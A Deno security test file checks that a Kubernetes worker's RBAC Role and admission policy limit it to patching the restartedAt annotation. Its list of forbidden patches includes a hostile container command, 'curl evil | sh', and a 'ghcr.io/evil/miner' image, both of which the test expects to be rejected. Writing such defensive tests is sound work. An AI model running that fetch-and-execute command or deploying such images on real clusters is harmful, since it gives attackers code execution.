/**
 * The shipped RBAC and admission policy on the real API server: the worker's
 * ServiceAccount can do its job with exactly k8s/rbac/, every verb in the Role
 * is needed, and k8s/admission/ lets it change nothing but restartedAt.
 */

// Assertions index into API objects.
// deno-lint-ignore-file no-explicit-any
import { assert, assertEquals, assertMatch } from "../helpers/assert.ts";
import {
  type Cluster,
  deploymentManifest,
  eventually,
  openCluster,
  WORKER_SA,
} from "../helpers/cluster.ts";
import { createKubeClient, requireControlPlane } from "../helpers/control_plane.ts";
import { createLogger } from "../../shared/log.ts";
import { createInventory } from "../../worker/inventory.ts";
import { createKubeApi, type KubeApi } from "../../worker/kube_api.ts";
import { loadKubeAccess } from "../../worker/kube_config.ts";
import { summarizeDeployment } from "../../worker/plan.ts";
import { restartDeployment } from "../../worker/restart.ts";

const info = requireControlPlane("the RBAC and admission tests");
const options = { ignore: info === undefined, sanitizeOps: false, sanitizeResources: false };
const VERBS = ["get", "list", "watch", "patch"];
const quiet = createLogger({ level: "error", write: () => {} });

async function workerApi(cluster: Cluster): Promise<KubeApi> {
  const access = await loadKubeAccess(await cluster.workerKubeconfig());
  return createKubeApi({
    server: access.server,
    httpClient: access.httpClient,
    authorization: access.authorization,
  });
}

/** Waits until the API server's RBAC cache says the worker may (or may not) use `verb`. */
async function waitForAccess(cluster: Cluster, namespace: string, verb: string, allowed: boolean) {
  const token = await cluster.admin.serviceAccountToken(WORKER_SA.namespace, WORKER_SA.name, 600);
  const asWorker = createKubeClient({
    server: cluster.info.server,
    caPem: cluster.info.caPem,
    token,
  });
  try {
    await eventually(`RBAC to ${allowed ? "allow" : "deny"} ${verb}`, async () => {
      const res = await asWorker.request(
        "POST",
        "/apis/authorization.k8s.io/v1/selfsubjectaccessreviews",
        {
          apiVersion: "authorization.k8s.io/v1",
          kind: "SelfSubjectAccessReview",
          spec: { resourceAttributes: { group: "apps", resource: "deployments", verb, namespace } },
        },
      );
      return (res.json as any)?.status?.allowed === allowed ? true : undefined;
    });
  } finally {
    asWorker.close();
  }
}

/** Exercises each capability the worker needs; returns which ones work. */
async function capabilities(
  cluster: Cluster,
  api: KubeApi,
  namespace: string,
): Promise<Record<string, string>> {
  const result: Record<string, string> = {};
  const name = `cap-${crypto.randomUUID().slice(0, 6)}`;
  await cluster.createDeployment(
    deploymentManifest(namespace, name, [{ image: "ghcr.io/acme/app:dev" }]),
  );
  const event = { image: "ghcr.io/acme/app", tags: ["dev"] };

  // list + watch: the inventory syncs, then sees a Deployment created after the sync.
  const stop = new AbortController();
  let watchErrors = 0;
  const inventory = createInventory({
    api,
    namespaces: [namespace],
    logger: quiet,
    onWatchError: () => watchErrors++,
  });
  const running = inventory.run(stop.signal);
  try {
    await eventually(
      "inventory sync",
      () => (inventory.synced() || watchErrors > 0 ? true : undefined),
      5000,
    );
    result.list = inventory.synced() ? "ok" : "forbidden";
    if (inventory.synced()) {
      const late = `late-${crypto.randomUUID().slice(0, 6)}`;
      await cluster.createDeployment(
        deploymentManifest(namespace, late, [{ image: "ghcr.io/acme/late:dev" }]),
      );
      const seen = await eventually("watch", () => {
        if (inventory.candidates("ghcr.io/acme/late").some((d) => d.name === late)) return "ok";
        return watchErrors > 0 ? "forbidden" : undefined;
      }, 5000).catch(() => "forbidden");
      result.watch = seen;
    } else result.watch = "untested";
  } finally {
    stop.abort();
    await running;
  }

  // patch: restart with the current resourceVersion.
  const current = summarizeDeployment(await cluster.getDeployment(namespace, name));
  const target = {
    namespace,
    name,
    resourceVersion: current.resourceVersion,
    containers: ["c0"],
    pullPolicyWarnings: [],
  };
  const restart = await restartDeployment(target, { api, event, maxAttempts: 1 });
  result.patch = restart.status === "restarted" ? "ok" : `${restart.status}`;

  // get: a Deployment changed after it was matched is re-read before the patch.
  const stale = summarizeDeployment(await cluster.getDeployment(namespace, name)).resourceVersion;
  await cluster.admin.request(
    "PATCH",
    `/apis/apps/v1/namespaces/${namespace}/deployments/${name}`,
    { metadata: { labels: { touched: "yes" } } },
    "application/merge-patch+json",
  );
  const recheck = await restartDeployment({ ...target, resourceVersion: stale }, {
    api,
    event,
    maxAttempts: 2,
  });
  result.get = restart.status !== "restarted"
    ? "untested"
    : recheck.status === "restarted"
    ? "ok"
    : `${recheck.status}`;
  return result;
}

Deno.test({
  name:
    "security: the shipped namespaced RBAC is enough for the worker, and every verb in it is needed",
  ...options,
  async fn(t) {
    const cluster = openCluster(info!);
    try {
      const ns = await cluster.namespace("krt-rbac");
      await cluster.applyManifest("k8s/admission/policy.yaml");
      const api = await workerApi(cluster);

      await t.step("without any RBAC the worker can do nothing", async () => {
        const res = await api.listDeployments(ns).then(() => 200, (e) => e.status);
        assertEquals(res, 403);
      });

      await cluster.applyManifest("k8s/rbac/namespaced/rbac.yaml", { namespace: ns });
      for (const verb of VERBS) await waitForAccess(cluster, ns, verb, true);

      await t.step("with exactly the shipped Role every capability works", async () => {
        assertEquals(await capabilities(cluster, api, ns), {
          list: "ok",
          watch: "ok",
          patch: "ok",
          get: "ok",
        });
      });

      const breaks: Record<string, string> = {
        list: "list",
        watch: "watch",
        patch: "patch",
        get: "get",
      };
      for (const verb of VERBS) {
        await t.step(`removing "${verb}" breaks exactly the capability that needs it`, async () => {
          await cluster.applyManifest("k8s/rbac/namespaced/rbac.yaml", {
            namespace: ns,
            edit: (doc) => {
              if (doc.kind === "Role") {
                doc.rules[0].verbs = doc.rules[0].verbs.filter((v: string) => v !== verb);
              }
            },
          });
          await waitForAccess(cluster, ns, verb, false);
          const result = await capabilities(cluster, api, ns);
          assert(
            result[breaks[verb]] !== "ok",
            `without ${verb}, ${breaks[verb]} must fail: ${JSON.stringify(result)}`,
          );
          for (
            const other of VERBS.filter((v) => v !== verb && v !== "watch" && !(verb === "list"))
          ) {
            if (verb === "patch" && other === "get") continue; // the re-read only runs after a patch
            assertEquals(result[other], "ok", `without ${verb}, ${other} still works`);
          }
          await cluster.applyManifest("k8s/rbac/namespaced/rbac.yaml", { namespace: ns });
          await waitForAccess(cluster, ns, verb, true);
        });
      }

      await t.step(
        "the worker cannot read secrets or pods, nor touch Deployments outside its namespaces",
        async () => {
          const other = await cluster.namespace("krt-rbac-other");
          const token = await cluster.admin.serviceAccountToken(
            WORKER_SA.namespace,
            WORKER_SA.name,
            600,
          );
          const asWorker = createKubeClient({ server: info!.server, caPem: info!.caPem, token });
          try {
            for (
              const path of [
                `/api/v1/namespaces/${ns}/secrets`,
                `/api/v1/namespaces/${ns}/pods`,
                `/apis/apps/v1/namespaces/${other}/deployments`,
                "/apis/apps/v1/deployments",
              ]
            ) {
              assertEquals((await asWorker.request("GET", path)).status, 403, path);
            }
          } finally {
            asWorker.close();
          }
        },
      );
    } finally {
      await cluster.cleanup();
    }
  },
});

Deno.test({
  name:
    "security: the admission policy lets the worker set restartedAt and nothing else; admin is unaffected",
  ...options,
  async fn(t) {
    const cluster = openCluster(info!);
    try {
      const ns = await cluster.namespace("krt-guard");
      await cluster.applyManifest("k8s/rbac/namespaced/rbac.yaml", { namespace: ns });
      await cluster.applyManifest("k8s/admission/policy.yaml");
      const token = await (async () => {
        await cluster.workerKubeconfig();
        return await cluster.admin.serviceAccountToken(WORKER_SA.namespace, WORKER_SA.name, 600);
      })();
      const asWorker = createKubeClient({ server: info!.server, caPem: info!.caPem, token });
      const smp = "application/strategic-merge-patch+json";
      const path = (name: string) => `/apis/apps/v1/namespaces/${ns}/deployments/${name}`;
      try {
        await waitForAccess(cluster, ns, "patch", true);
        // Wait until the policy is enforced, using a throwaway Deployment.
        await cluster.createDeployment(
          deploymentManifest(ns, "probe", [{ name: "app", image: "ghcr.io/acme/app:dev" }]),
        );
        await eventually("the admission policy to be enforced", async () => {
          const res = await asWorker.request(
            "PATCH",
            path("probe"),
            { spec: { replicas: 3 } },
            smp,
          );
          return res.status === 422 ? true : undefined;
        }, 20_000);

        await cluster.createDeployment(
          deploymentManifest(ns, "target", [{ name: "app", image: "ghcr.io/acme/app:dev" }]),
        );
        const forbidden: [string, unknown][] = [
          ["an image", {
            spec: {
              template: {
                spec: { containers: [{ name: "app", image: "ghcr.io/evil/miner:latest" }] },
              },
            },
          }],
          ["replicas", { spec: { replicas: 5 } }],
          ["a Deployment label", { metadata: { labels: { owner: "mallory" } } }],
          ["a pod template label", {
            spec: { template: { metadata: { labels: { extra: "x" } } } },
          }],
          ["a command", {
            spec: {
              template: {
                spec: { containers: [{ name: "app", command: ["sh", "-c", "curl evil | sh"] }] },
              },
            },
          }],
          ["another pod template annotation", {
            spec: {
              template: { metadata: { annotations: { "sidecar.istio.io/inject": "false" } } },
            },
          }],
          ["a Deployment annotation", { metadata: { annotations: { note: "x" } } }],
          ["paused", { spec: { paused: true } }],
          ["restartedAt together with an image", {
            spec: {
              template: {
                metadata: {
                  annotations: { "kubectl.kubernetes.io/restartedAt": "2026-01-01T00:00:00Z" },
                },
                spec: { containers: [{ name: "app", image: "ghcr.io/evil/x:1" }] },
              },
            },
          }],
        ];
        for (const [what, patch] of forbidden) {
          await t.step(`the worker may not change ${what}`, async () => {
            const before = await cluster.getDeployment(ns, "target");
            const res = await asWorker.request("PATCH", path("target"), patch, smp);
            assertEquals(res.status, 422);
            assertMatch(JSON.stringify(res.json), /ValidatingAdmissionPolicy/);
            assertEquals(
              (await cluster.getDeployment(ns, "target")).metadata.resourceVersion,
              before.metadata.resourceVersion,
            );
          });
        }
        await t.step("the worker may not scale, create or delete Deployments", async () => {
          assertEquals(
            (await asWorker.request(
              "PATCH",
              `${path("target")}/scale`,
              { spec: { replicas: 9 } },
              "application/merge-patch+json",
            )).status,
            403,
          );
          assertEquals((await asWorker.request("DELETE", path("target"))).status, 403);
          assertEquals(
            (await asWorker.request(
              "POST",
              `/apis/apps/v1/namespaces/${ns}/deployments`,
              deploymentManifest(ns, "new", [{ image: "x/y:z" }]),
            )).status,
            403,
          );
        });
        await t.step(
          "the worker's restart patch is admitted and changes only restartedAt",
          async () => {
            const before = await cluster.getDeployment(ns, "target");
            const res = await asWorker.request("PATCH", path("target"), {
              spec: {
                template: {
                  metadata: {
                    annotations: { "kubectl.kubernetes.io/restartedAt": "2026-11-21T20:00:00Z" },
                  },
                },
              },
            }, smp);
            assertEquals(res.status, 200);
            const after = await cluster.getDeployment(ns, "target");
            assertEquals(after.spec.template.metadata.annotations, {
              "kubectl.kubernetes.io/restartedAt": "2026-11-21T20:00:00Z",
            });
            assertEquals(after.metadata.generation, before.metadata.generation + 1);
          },
        );
        await t.step("admin is not affected by the policy", async () => {
          for (const [what, patch] of forbidden) {
            const res = await cluster.admin.request("PATCH", path("target"), patch, smp);
            assertEquals(res.status, 200, what);
          }
        });
      } finally {
        asWorker.close();
      }
    } finally {
      await cluster.cleanup();
    }
  },
});
